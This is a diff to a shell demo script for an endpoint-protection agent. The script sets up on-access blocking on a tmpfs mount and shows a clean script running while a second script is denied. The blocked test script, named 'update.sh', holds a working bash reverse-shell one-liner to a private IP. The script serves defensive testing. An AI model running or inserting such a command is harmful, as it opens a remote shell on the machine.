@@ -13,6 +13,7 @@ agentdir=$(mktemp -d /tmp/ward-demo-agent.XXXXXX)
 agentpid=
 cleanup() {
 	if [ -n "$agentpid" ]; then kill -TERM "$agentpid" 2>/dev/null; wait "$agentpid" 2>/dev/null; fi
+	if mountpoint -q "$agentdir/mnt" 2>/dev/null; then umount "$agentdir/mnt"; fi
 	rm -rf "$tree" "$agentdir"
 }
 trap cleanup EXIT
@@ -51,8 +52,12 @@ echo "== the agent: a signing key, the default content as a signed bundle"
 "$ward" key gen --out "$agentdir/release"
 "$ward" content build "$here/../content/default" -o "$agentdir/default.wbundle"
 "$ward" content sign "$agentdir/default.wbundle" --key "$agentdir/release.key"
-printf 'trusted_keys: [%s/release.pub]\nstate_dir: %s/state\nrun_dir: %s/run\n' \
-	"$agentdir" "$agentdir" "$agentdir" >"$agentdir/wardd.yaml"
+# On-access blocking watches a tmpfs of the demo's own (never a mount the
+# demo did not create).
+mkdir -p "$agentdir/mnt"
+mount -t tmpfs -o size=16m,mode=0755 ward-demo "$agentdir/mnt"
+printf 'trusted_keys: [%s/release.pub]\nstate_dir: %s/state\nrun_dir: %s/run\nonaccess:\n  paths: [%s/mnt]\n' \
+	"$agentdir" "$agentdir" "$agentdir" "$agentdir" >"$agentdir/wardd.yaml"
 "$wardd" --config "$agentdir/wardd.yaml" --foreground 2>"$agentdir/wardd.log" &
 agentpid=$!
 for _ in $(seq 50); do "$ward" agent --run-dir "$agentdir/run" status >/dev/null 2>&1 && break; sleep 0.1; done
@@ -70,4 +75,25 @@ echo
 echo
 echo "== ward agent scan: the agent's content finds the samples"
 "$ward" agent --run-dir "$agentdir/run" scan "$tree"
+echo
+echo "== on-access: a clean script runs, a reverse-shell script is not allowed to"
+printf '#!/bin/sh\necho "clean script ran"\n' >"$agentdir/mnt/clean.sh"
+printf '#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n' >"$agentdir/mnt/update.sh"
+chmod +x "$agentdir/mnt/clean.sh" "$agentdir/mnt/update.sh"
+"$agentdir/mnt/clean.sh"
+"$agentdir/mnt/update.sh" || echo "(exit status $?: execution denied by the agent)"
+echo
+echo "== the agent's journal: what happened, as ECS events"
+python3 - "$agentdir/state/journal" <<'PY' 2>/dev/null || true
+import glob, json, struct, sys
+for path in sorted(glob.glob(sys.argv[1] + "/*.wjl")):
+    data = open(path, "rb").read()
+    off = 0
+    while off + 16 <= len(data):
+        n, _, seq = struct.unpack_from("<IIQ", data, off)
+        ev = json.loads(data[off + 16:off + 16 + n])
+        extra = ev.get("file", {}).get("path") or ev.get("message", "")
+        print("%4d  %-6s %-28s %s" % (seq, ev["event"]["kind"], ev["event"]["action"], extra[:70]))
+        off += 16 + n
+PY
 exit 0
